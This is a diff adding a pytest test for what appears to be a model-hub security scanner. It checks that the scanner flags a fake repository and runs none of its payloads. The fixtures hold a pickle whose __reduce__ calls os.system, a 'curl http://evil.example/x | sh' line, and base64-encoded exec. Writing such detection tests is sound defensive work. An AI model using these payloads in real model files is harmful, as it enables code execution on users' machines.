@@ -1,0 +1,66 @@
+"""The remote pass with the real remote_code and inspectors packages (one Semgrep run)."""
+
+from __future__ import annotations
+
+import json
+import pickle
+from pathlib import Path
+
+import pytest
+
+from hubguard.findings import HubReference, Location, Region, RevisionState
+from hubguard.hub.remote_pass import RemoteOptions, run_remote_pass
+from hubguard.hub.scanners import Scanners
+from hubguard.hub.transport import RetryPolicy
+from tests.fakehub import FakeHub
+
+
+def real_scanners() -> Scanners:
+    try:
+        return Scanners.default()
+    except (ImportError, AttributeError) as missing:
+        pytest.skip(f"remote_code / inspectors not available yet: {missing}")
+
+
+class _Payload:
+    def __init__(self, canary: Path) -> None:
+        self.canary = canary
+
+    def __reduce__(self) -> tuple[object, tuple[str]]:
+        import os
+
+        return (os.system, (f"touch {self.canary}",))
+
+
+@pytest.mark.slow
+def test_malicious_repo_end_to_end(fake_hub: FakeHub, isolated_hf_env: Path, tmp_path: Path) -> None:
+    scanners = real_scanners()
+    canary = tmp_path / "canary"
+    code = (
+        "import base64, os, subprocess\n"
+        f"open({str(canary)!r}, 'w').write('ran')\n"
+        f"subprocess.Popen('curl http://evil.example/x | sh; touch {canary}', shell=True)\n"
+        "exec(base64.b64decode('cHJpbnQoMSk='))\n"
+        "class EvilModel:\n    pass\n"
+    )
+    config = {"model_type": "evil", "auto_map": {"AutoModel": "modeling_evil.EvilModel"}}
+    fake_hub.add_repo(
+        "org/evil",
+        {
+            "config.json": json.dumps(config).encode(),
+            "modeling_evil.py": code.encode(),
+            "pytorch_model.bin": pickle.dumps(_Payload(canary), protocol=2),
+        },
+    )
+    reference = HubReference(
+        "huggingface", "model", "org/evil", None, RevisionState.UNPINNED,
+        Location("app.py", Region(1, 1, 1, 10)), "A1", True, True,
+    )
+    options = RemoteOptions(
+        offline=False, timeout=20, cache_dir=tmp_path / "cache", endpoint=fake_hub.url, token=None,
+        retry=RetryPolicy(attempts=2, backoff=0.01),
+    )
+    result = run_remote_pass([reference], options, scanners=scanners)
+    found = {finding.rule_id for finding in result.findings}
+    assert {"HG401", "HG402", "HG403", "HG404"} <= found
+    assert not canary.exists()
